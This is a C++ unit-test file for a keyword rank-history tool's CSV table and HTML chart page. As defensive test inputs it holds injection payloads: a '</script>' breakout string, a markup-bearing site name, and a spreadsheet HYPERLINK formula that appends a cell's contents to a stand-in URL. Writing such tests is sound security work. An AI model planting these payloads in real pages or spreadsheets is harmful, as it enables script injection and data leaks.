#include "engines/PositionHistoryPage.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include <string>
#include <vector>

#include "engines/PositionHistory.h"
#include "platform/FileSystem.h"
#include "reports/ChartScript.h"
#include "support/TempDir.h"

namespace sg {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

// The figures the page's script draws from.
nlohmann::json ChartData(const std::string& page) {
    const std::string open = std::string("id='") + kHistoryDataId + "'>";
    const std::size_t from = page.find(open);
    if (from == std::string::npos) {
        return nullptr;
    }
    const std::size_t start = from + open.size();
    return nlohmann::json::parse(page.substr(start, page.find("</script>", start) - start), nullptr,
                                 false);
}

// Four runs of one keyword, read from a table whose records are not in date order, in the old
// form (no error column) and the new one mixed:
//   alpha/Google: 1, 3, not found, 2
//   <b>/AOL:      failed, 7, 4, (not searched)
TEST(PositionHistoryPage, RunsInDateOrderWithNotFoundAndFailedMarkedApart) {
    const std::string table =
        "date,keyword,site,engine,position\r\n"
        "2026-03-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,\r\n"
        "2026-03-01T10:00:00,\"red, \"\"big\"\" shoes\",<b>,AOL,4\r\n"
        "2026-01-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,1\r\n"
        "2026-01-01T10:00:00,\"red, \"\"big\"\" shoes\",<b>,AOL,,Suspended: </script>\r\n"
        "2026-02-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,3,\r\n"
        "2026-02-01T10:00:00,\"red, \"\"big\"\" shoes\",<b>,AOL,7,\r\n"
        "2026-02-01T10:00:00,broken,record\r\n"
        "2026-02-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,zero\r\n"
        "2026-04-01T10:00:00,\"red, \"\"big\"\" shoes\",alpha.test,Google,2,\r\n";
    const std::vector<PositionHistoryRow> rows = ParsePositionHistory(table);
    ASSERT_EQ(rows.size(), 7u) << "the header and the two bad records are left out";
    EXPECT_EQ(rows[0].keyword, "red, \"big\" shoes");
    EXPECT_EQ(rows[3].error, "Suspended: </script>");

    const std::string page = PositionHistoryPageText(rows);
    const nlohmann::json data = ChartData(page);
    ASSERT_TRUE(data.is_array()) << page.substr(0, 3000);
    ASSERT_EQ(data.size(), 1u);
    EXPECT_EQ(data[0]["dates"], nlohmann::json({"2026-01-01 10:00:00", "2026-02-01 10:00:00",
                                                "2026-03-01 10:00:00", "2026-04-01 10:00:00"}));
    EXPECT_EQ(data[0]["lowest"], 7);
    const nlohmann::json& alpha = data[0]["series"][0];
    const nlohmann::json& bold = data[0]["series"][1];
    EXPECT_EQ(alpha["label"], "alpha.test on Google");
    EXPECT_EQ(alpha["positions"], nlohmann::json::parse("[1, 3, null, 2]"));
    EXPECT_EQ(alpha["notFound"], nlohmann::json::parse("[false, false, true, false]"));
    EXPECT_EQ(alpha["failed"], nlohmann::json::parse("[null, null, null, null]"));
    EXPECT_EQ(bold["positions"], nlohmann::json::parse("[null, 7, 4, null]"));
    EXPECT_EQ(bold["notFound"], nlohmann::json::parse("[false, false, false, false]"));
    EXPECT_EQ(bold["failed"],
              nlohmann::json::parse(R"(["Suspended: </script>", null, null, null])"));

    // Without scripts the table holds every figure, each kind of cell its own.
    EXPECT_THAT(page, HasSubstr("<tr><th>alpha.test on Google</th><td>1</td><td>3</td>"
                                "<td class='notfound'>x</td><td>2</td></tr>"));
    EXPECT_THAT(page, HasSubstr("<tr><th>&lt;b&gt; on AOL</th><td class='failed'>failed: "
                                "Suspended: &lt;/script&gt;</td><td>7</td><td>4</td><td></td>"));
    // Nothing from the rows adds markup or ends the data's script element early; the library
    // is in the page.
    const std::size_t dataAt = page.find(std::string("id='") + kHistoryDataId);
    EXPECT_THAT(page.substr(0, dataAt), Not(HasSubstr("<b>")));
    EXPECT_EQ(page.find("</script>", dataAt), page.find("}]}]</script>", dataAt) + 4);
    EXPECT_THAT(page, HasSubstr("red, &quot;big&quot; shoes</h2>"));
    EXPECT_THAT(page, HasSubstr("Chart.js v" + std::string(ChartLibraryVersion())));
    EXPECT_FALSE(ChartLibraryVersion().empty());
    EXPECT_THAT(page, Not(HasSubstr("src=")));
}

// A table written before failures were kept is still read, and gets the new header when the
// next run appends; its records stay as they were.
TEST(PositionHistoryPage, AnOldTableIsReadAndUpgradedOnAppend) {
    test::TempDir dir;
    const std::string path = dir / "history.csv";
    const std::string old =
        "date,keyword,site,engine,position\r\n"
        "2026-01-01T10:00:00,socks,a.test,Google,3\r\n";
    ASSERT_TRUE(WriteWholeFile(path, old));
    const std::vector<PositionHistoryRow> rows = {
        {"2026-01-02T10:00:00", "socks", "a.test", "google", 0, "HTTP error"},
        {"2026-01-02T10:00:00", "socks", "a.test", "Google", 0, ""}};
    ASSERT_EQ(AppendPositionHistory(path, rows), kHistoryAppended);
    std::string text;
    ASSERT_TRUE(ReadWholeFile(path, text));
    EXPECT_EQ(text,
              "date,keyword,site,engine,position,error\r\n"
              "2026-01-01T10:00:00,socks,a.test,Google,3\r\n"
              "2026-01-02T10:00:00,socks,a.test,google,,HTTP error\r\n"
              "2026-01-02T10:00:00,socks,a.test,Google,,\r\n");
    const std::vector<PositionHistoryRow> read = ParsePositionHistory(text);
    ASSERT_EQ(read.size(), 3u);
    EXPECT_EQ(read[0].position, 3);
    EXPECT_EQ(read[1].error, "HTTP error");
    EXPECT_EQ(read[2].error, "");
}

TEST(ChartScript, TheLibraryIsOneInlineScriptThatCannotEndEarly) {
    const std::string script = ChartLibraryScript();
    EXPECT_TRUE(script.starts_with("<script>\n"));
    EXPECT_GT(script.size(), 100000u);
    EXPECT_EQ(script.find("</script>"), script.size() - std::string("</script>\n").size());
    EXPECT_EQ(ScriptElementText("a</script>b</"), "a<\\/script>b<\\/");
}

// A keyword or a site that a spreadsheet would run as a formula goes into the table as text and
// reads back as it was written.
TEST(PositionHistoryPage, FormulaLikeTextsAreKeptAsText) {
    const std::vector<PositionHistoryRow> rows = {
        {"2026-01-01T10:00:00", "=HYPERLINK(\"http://x/?\"&A1)", "@site", "-Engine", 2, ""},
        {"2026-01-01T10:00:00", "k", "s", "e", 0, "+HTTP error"}};
    const std::string table = PositionHistoryRecords(rows);
    EXPECT_EQ(table,
              "2026-01-01T10:00:00,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'@site,'-Engine,2,\r\n"
              "2026-01-01T10:00:00,k,s,e,,'+HTTP error\r\n");
    const std::vector<PositionHistoryRow> back = ParsePositionHistory(table);
    ASSERT_EQ(back.size(), 2u);
    EXPECT_EQ(back[0].keyword, rows[0].keyword);
    EXPECT_EQ(back[0].site, rows[0].site);
    EXPECT_EQ(back[0].engine, rows[0].engine);
    EXPECT_EQ(back[1].error, rows[1].error);
}

}  // namespace
}  // namespace sg
